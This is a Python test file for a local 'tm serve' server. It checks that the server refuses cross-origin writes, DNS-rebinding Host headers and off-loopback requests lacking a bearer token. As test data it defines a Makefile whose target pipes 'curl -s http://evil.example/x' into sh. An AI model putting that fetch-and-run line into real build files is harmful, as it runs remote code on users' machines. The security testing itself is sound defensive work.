"""Who may ask `tm serve`: web pages may not (a foreign Host or Origin, a body that is not
JSON), and off loopback nobody without the bearer token."""

from __future__ import annotations

import json
from pathlib import Path

import openai
import pytest

from tests.conftest import PY_APP, tm
from tests.modelserver import ModelServer
from tests.serve.served import Served, init, is_error_object, start, stop

MAKEFILE = "all:\n\tcurl -s http://evil.example/x | sh\n"
EVIL = json.dumps({"path": "Makefile", "content": MAKEFILE}).encode()


def _kinds(repo: Path) -> list[str]:
    return [e["kind"] for e in json.loads(tm(repo, "log", "--json").stdout)]


def test_a_web_page_cannot_write_files(served: Served) -> None:
    before = _kinds(served.repo)
    page = "http://evil.example"
    refused = [
        # The audit's request: a text/plain POST, which browsers send without a preflight.
        (403, {"Content_Type": "text/plain", "Origin": page}),
        (403, {"Content_Type": "application/json", "Origin": page}),
        (403, {"Content_Type": "application/json", "Origin": "null"}),  # sandboxed frame
        (403, {"Content_Type": "application/json", "Origin": "http://127.0.0.1.evil.example"}),
        # No Origin (not a browser, or one that hides it): still no body that is not JSON.
        (415, {"Content_Type": "text/plain"}),
        (415, {"Content_Type": "application/x-www-form-urlencoded"}),
        (415, {"Content_Type": "multipart/form-data; boundary=x"}),
        (415, {}),
    ]
    for status, headers in refused:
        r = served.raw("POST", "/v1/user/code", EVIL, **headers)
        assert r.status == status and is_error_object(r), (headers, r)
    assert "application/json" in r.doc["error"]["message"]
    assert not (served.repo / "Makefile").exists()
    assert _kinds(served.repo) == before  # nothing adopted
    # A page served from loopback (a local web UI) may; so may JSON with a charset.
    r = served.raw(
        "POST",
        "/v1/user/code",
        EVIL,
        Content_Type="application/json; charset=utf-8",
        Origin="http://localhost:5173",
    )
    assert r.status == 200, r
    assert (served.repo / "Makefile").read_text() == MAKEFILE


def test_dns_rebinding_is_refused(served: Served) -> None:
    for host in ("attacker.example", f"attacker.example:{served.port}", "127.0.0.1.nip.io"):
        r = served.raw("GET", "/state", Host=host)
        assert r.status == 403 and is_error_object(r), (host, r)
        assert host in r.doc["error"]["message"]
    body = json.dumps({"model": "x", "messages": [{"role": "user", "content": "hi"}]})
    r = served.raw(
        "POST",
        "/v1/chat/completions",
        body.encode(),
        Content_Type="application/json",
        Host="attacker.example",
    )
    assert r.status == 403 and not served.model.chat_requests
    for host in (f"127.0.0.1:{served.port}", f"localhost:{served.port}", "[::1]", "LocalHost"):
        r = served.raw("GET", "/state", Host=host)
        assert r.status == 200, (host, r)


def test_config_stores_the_serve_token_and_every_request_needs_it(
    repo: Path, server: ModelServer
) -> None:
    init(repo)
    refused = tm(repo, "serve", "--host", "0.0.0.0", "--port", "0")
    assert refused.returncode == 2 and "--token" in refused.stderr
    # tm's own secret for its own server, unlike a provider's key, may be stored.
    stored = tm(repo, "config", "serveToken", "s3cret")
    assert stored.returncode == 0, stored.stderr
    assert "s3cret" not in stored.stdout + stored.stderr
    assert "s3cret" in (repo / ".git" / "config").read_text()
    shown = tm(repo, "config", "serveToken")
    assert shown.returncode == 2 and "s3cret" not in shown.stdout + shown.stderr
    assert "s3cret" not in tm(repo, "config").stdout + tm(repo, "config", "--json").stdout
    for key in ("apiKey", "tinymem.token"):
        assert tm(repo, "config", key, "x").returncode == 2
    assert tm(repo, "config", "serveToken", "sk-abcdef0123456789").returncode == 2
    s = start(repo, server)  # the token comes from the config
    try:
        missing = s.raw("GET", "/v1/models")
        assert missing.status == 401 and is_error_object(missing)
        assert "required" in missing.doc["error"]["message"]
        assert missing.headers["www-authenticate"] == "Bearer"
        with pytest.raises(openai.AuthenticationError) as wrong:
            s.client("wrong").models.list()
        assert "token is wrong" in str(wrong.value)
        # The scheme is case-insensitive (RFC 7235); the token is not.
        for header in ("Bearer s3cret", "bearer s3cret", "BEARER  s3cret"):
            r = s.raw("GET", "/v1/models", Authorization=header)
            assert r.status == 200, (header, r)
        assert s.raw("GET", "/v1/models", Authorization="Bearer S3CRET").status == 401
        assert [m.id for m in s.client("s3cret").models.list()] == ["openai/test"]
        status, _ = s.post("/v1/user/code", {"path": "app.py", "content": "x"})
        assert status == 401 and (repo / "app.py").read_text() == PY_APP
    finally:
        stop(s)


def test_off_loopback_the_token_is_required_and_is_the_defence(
    repo: Path, server: ModelServer
) -> None:
    init(repo)
    s = start(repo, server, "--host", "0.0.0.0", "--token", "s3cret")
    try:
        assert s.raw("GET", "/v1/models").status == 401
        # Off loopback, Host names whatever address the client used: the token decides.
        r = s.raw("GET", "/v1/models", Host="tm.example.test", Authorization="Bearer s3cret")
        assert r.status == 200, r
        assert s.client("s3cret").models.list().data
    finally:
        stop(s)
